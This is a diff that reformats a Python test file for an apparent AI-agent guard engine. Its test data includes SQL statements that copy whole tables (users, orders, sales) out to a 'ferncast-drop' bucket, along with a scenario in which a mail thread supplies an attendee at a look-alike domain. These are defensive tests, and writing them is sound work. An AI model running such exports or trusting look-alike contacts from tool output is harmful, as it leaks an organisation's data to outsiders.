@@ -104,11 +104,20 @@ def test_arguments_that_route_money(name: str, money: bool) -> None:
             "EXPORT DATA OPTIONS(uri='gs://ferncast-drop/x/*.csv', format='CSV') AS SELECT * FROM t",
             ["gs://ferncast-drop/x/*.csv"],
         ),
-        ("COPY (SELECT * FROM users) TO 's3://ferncast-drop/u.parquet'", ["s3://ferncast-drop/u.parquet"]),
+        (
+            "COPY (SELECT * FROM users) TO 's3://ferncast-drop/u.parquet'",
+            ["s3://ferncast-drop/u.parquet"],
+        ),
         ("copy into 's3://ferncast-drop/o/' from orders", ["s3://ferncast-drop/o/"]),
-        ("UNLOAD ('select * from sales') TO 's3://ferncast-drop/s_' IAM_ROLE 'r'", ["s3://ferncast-drop/s_"]),
+        (
+            "UNLOAD ('select * from sales') TO 's3://ferncast-drop/s_' IAM_ROLE 'r'",
+            ["s3://ferncast-drop/s_"],
+        ),
         ("SELECT * FROM t INTO OUTFILE '/tmp/t.csv'", ["/tmp/t.csv"]),
-        ("INSERT INTO FUNCTION s3('https://ferncast-drop.test/a.csv') SELECT 1", ["https://ferncast-drop.test/a.csv"]),
+        (
+            "INSERT INTO FUNCTION s3('https://ferncast-drop.test/a.csv') SELECT 1",
+            ["https://ferncast-drop.test/a.csv"],
+        ),
         ("SELECT count(*) FROM exports WHERE copy = 'to'", []),
         ("UPDATE t SET a = 1 WHERE id = 3", []),
     ],
@@ -289,7 +298,10 @@ def test_the_sender_a_prompt_names(sender: str, text: str, named: bool) -> None:
 
 
 def test_an_attendee_at_a_look_alike_of_the_workspace_org_is_stopped(engine: Engine) -> None:
-    prompt(engine, "Book the budget sync Friday 9:00 with Oona from treasury; her details are in the latest treasury thread.")
+    prompt(
+        engine,
+        "Book the budget sync Friday 9:00 with Oona from treasury; her details are in the latest treasury thread.",
+    )
     observe(
         engine,
         "mcp__postwick__thread_list",
@@ -305,7 +317,10 @@ def test_an_attendee_at_a_look_alike_of_the_workspace_org_is_stopped(engine: Eng
 
 
 def test_an_attendee_at_the_workspace_orgs_own_domain_stays_allowed(engine: Engine) -> None:
-    prompt(engine, "Book the budget sync Friday 9:00 with Oona from treasury; her details are in the latest treasury thread.")
+    prompt(
+        engine,
+        "Book the budget sync Friday 9:00 with Oona from treasury; her details are in the latest treasury thread.",
+    )
     observe(
         engine,
         "mcp__postwick__thread_list",
